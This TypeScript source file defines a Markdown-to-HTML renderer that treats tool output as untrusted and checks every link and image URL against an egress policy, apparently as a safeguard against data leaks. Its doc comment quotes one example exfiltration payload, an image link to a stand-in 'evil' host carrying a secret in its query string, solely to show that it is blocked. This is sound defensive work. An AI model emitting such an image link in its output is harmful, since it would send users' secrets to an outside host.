// renderMarkdown: Markdown to HTML with raw HTML off and every link and image URL through the egress policy.
import { heldValue, isUntrusted, type Untrusted } from '../../src/taint/untrusted.js';
import { engineFor, type MarkdownRendering } from './engine.js';
import { resolveMarkdownOptions, type MarkdownOptions } from './options.js';

export type { MarkdownRendering } from './engine.js';

/**
 * Renders Markdown (CommonMark plus markdown-it's tables and strikethrough) to HTML for a UI. Raw HTML is
 * always off: tags in the source are text. Every link and image destination — inline, reference-style,
 * autolink and, with `linkify`, bare URLs — is checked by the egress policy exactly as it will be written
 * into `href` or `src`, as a link (`checkUrl`'s `link` option): under a policy with `hosts: 'any'` a
 * destination with a query or a fragment is blocked, since a click would carry them to a host nobody chose. A
 * blocked destination leaves its Markdown as literal text (so `![](https://evil/?q=SECRET)` shows as text and
 * neither loads nor links); a relative or empty destination is blocked too, since it would resolve against
 * the page. Kept links get `rel="noopener noreferrer nofollow ugc"`. Images follow the `images` mode. Takes
 * tool prose as it comes, an `Untrusted<string>` (no reveal needed). Never throws on content.
 */
export function renderMarkdown(
  source: string | Untrusted<string>,
  options: MarkdownOptions,
): MarkdownRendering {
  const text: unknown = isUntrusted(source) ? heldValue(source) : source;
  if (typeof text !== 'string') throw new TypeError('renderMarkdown takes a string or an untrusted string.');
  return engineFor(resolveMarkdownOptions(options)).render(text);
}
